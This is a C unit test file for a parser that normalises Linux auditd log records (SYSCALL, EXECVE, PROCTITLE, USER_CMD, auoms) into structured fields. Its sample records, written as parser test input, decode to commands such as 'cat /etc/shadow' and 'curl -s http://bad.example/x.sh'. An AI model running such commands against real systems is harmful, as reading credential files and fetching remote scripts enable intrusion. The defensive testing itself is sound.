/* SPDX-License-Identifier: Apache-2.0 */
/* Linux audit: record types, hexadecimal values, the enriched part, nested messages, auoms. */
#include "expect.h"

static void test_records(void **state)
{
	static const struct expect_case cases[] = {
	    {"type=SYSCALL msg=audit(1677751200.123:4711): arch=c000003e syscall=59 success=yes "
	     "exit=0 "
	     "a0=55d0c1 a1=55 ppid=1200 pid=1201 auid=1001 uid=0 euid=0 tty=pts0 ses=3 "
	     "comm=\"cat\" "
	     "exe=\"/usr/bin/cat\" key=\"sensitive\"\x1d"
	     "ARCH=x86_64 SYSCALL=execve AUID=\"alice\" "
	     "UID=\"root\"",
		{"@product=linux", "@service=auditd", "@category=process_creation",
		    "@time=2023-03-02T10:00:00.123000Z", "type=SYSCALL", "event_id=4711",
		    "a0=55d0c1", "SYSCALL=execve", "AUID=alice", "UID=root", "user=root",
		    "Image=/usr/bin/cat", "exe=/usr/bin/cat", "comm=cat", "process_name=cat",
		    "key=sensitive", "euid=0", "process_id=1201", "event_outcome=success"}},
	    {"type=SYSCALL msg=audit(1677751200.123:1): arch=c000003e syscall=99 success=no "
	     "exit=-1 "
	     "comm=7368202D78 exe=\"/usr/bin/dash\" ses=4294967295 key=(null)",
		{"@category=", "SYSCALL=sysinfo", "event_outcome=failure", "comm=sh -x",
		    "!session_id", "!rule_name"}},
	    {"type=SYSCALL msg=audit(1677751200.123:1): arch=c00000b7 syscall=221 success=yes",
		{"SYSCALL=execve", "@category=process_creation"}},
	    {"type=SYSCALL msg=audit(1677751200.123:1): arch=40000003 syscall=11", {"!SYSCALL"}},
	    {"type=EXECVE msg=audit(1677751200.123:4711): argc=3 a0=\"/bin/cat\" a1=\"-n\" "
	     "a2=2F6574632F736861646F77202D78",
		{"a0=/bin/cat", "a2=/etc/shadow -x", "CommandLine=/bin/cat -n /etc/shadow -x",
		    "Image=/bin/cat", "@category=process_creation"}},
	    {"type=PATH msg=audit(1677751200.123:4711): item=0 name=\"/etc/shadow\" "
	     "nametype=NORMAL",
		{"name=/etc/shadow", "file_path=/etc/shadow", "nametype=NORMAL", "item=0"}},
	    {"type=PROCTITLE msg=audit(1677751200.123:4711): "
	     "proctitle=636174002D6E002F6574632F736861646F77",
		{"proctitle=cat -n /etc/shadow", "CommandLine=cat -n /etc/shadow"}},
	    {"type=PROCTITLE msg=audit(1677751200.123:4711): proctitle=\"sh\"", {"proctitle=sh"}},
	    {"type=USER_LOGIN msg=audit(1677751202.000:4713): pid=3001 uid=0 auid=4294967295 "
	     "msg='op=login "
	     "acct=\"oracle\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.45 terminal=sshd "
	     "res=failed'",
		{"event_action=login", "acct=oracle", "user=oracle", "src_ip=203.0.113.45",
		    "event_outcome=failure", "res=failed", "!src_host"}},
	    {"type=USER_CMD msg=audit(1677751203.000:4714): pid=1 uid=1001 msg='cwd=\"/home/a\" "
	     "cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" res=success'",
		{"cmd=cat /etc/shadow", "CommandLine=cat /etc/shadow", "event_outcome=success"}},
	    {"node=web1 type=SERVICE_STOP msg=audit(1677751205.000:4716): pid=1 "
	     "msg='unit=firewalld "
	     "comm=\"systemd\" res=success'",
		{"machine=web1", "unit=firewalld", "type=SERVICE_STOP"}},
	};

	(void)state;
	EXPECT("auditd", cases);
}

static void test_carriers(void **state)
{
	static const struct expect_case cases[] = {
	    {"Mar  2 10:00:06 web1 audispd: type=PATH msg=audit(1677751206.000:4717): item=0 "
	     "name=2F746D702F6120622E7368 nametype=CREATE",
		{"name=/tmp/a b.sh", "machine=web1", "@time=2023-03-02T10:00:06.000000Z"}},
	    {"Mar  2 10:00:07 web1 kernel: [ 1234.567890] audit: type=1400 "
	     "audit(1677751207.000:4718): "
	     "apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\" comm=\"nginx\"",
		{"type=AVC", "apparmor=DENIED", "name=/etc/shadow"}},
	    {"<13>Mar  2 10:00:07 web1 auoms[1]: type=AUOMS_EXECVE audit(1677751202.986:84138): "
	     "SchemaVersion=\"1\" node=WEB1 arch=x86_64 syscall=execve success=yes user=www-data "
	     "uid=33 "
	     "exe=\"/usr/bin/curl\" proctitle=curl -s http://bad.example/x.sh redactors= "
	     "containerid=",
		{"type=AUOMS_EXECVE", "SYSCALL=execve", "user=www-data",
		    "CommandLine=curl -s http://bad.example/x.sh", "@category=process_creation",
		    "redactors=", "containerid="}},
	};

	(void)state;
	EXPECT("auditd", cases);
}

static void test_others(void **state)
{
	(void)state;
	expect_other("auditd", "Mar  2 10:00:00 web1 app: audit(1) done");
	expect_other("auditd", "type=SYSCALL msg=audit(x:1): a=b");
	expect_other("auditd", "msg=audit(1677751202.000:1): a=b");
}

static void test_hostile(void **state)
{
	(void)state;
	expect_unharmed(
	    "node=h type=USER_CMD msg=audit(1677751203.000:4714): pid=1 msg='cwd=\"/h\" "
	    "cmd=6361742 a0=41 exe=\"/s\" res=success'\x1dUID=\"root\"",
	    NULL);
	expect_unharmed(
	    "type=EXECVE msg=audit(1677751200.123:4711): argc=3 a0=\"c\" a1=4142 a2[0]=41", NULL);
}

static void test_sample(void **state)
{
	(void)state;
	expect_sample("auditd/audit.log", "auditd", 12);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_records),
	    cmocka_unit_test(test_carriers),
	    cmocka_unit_test(test_others),
	    cmocka_unit_test(test_hostile),
	    cmocka_unit_test(test_sample),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
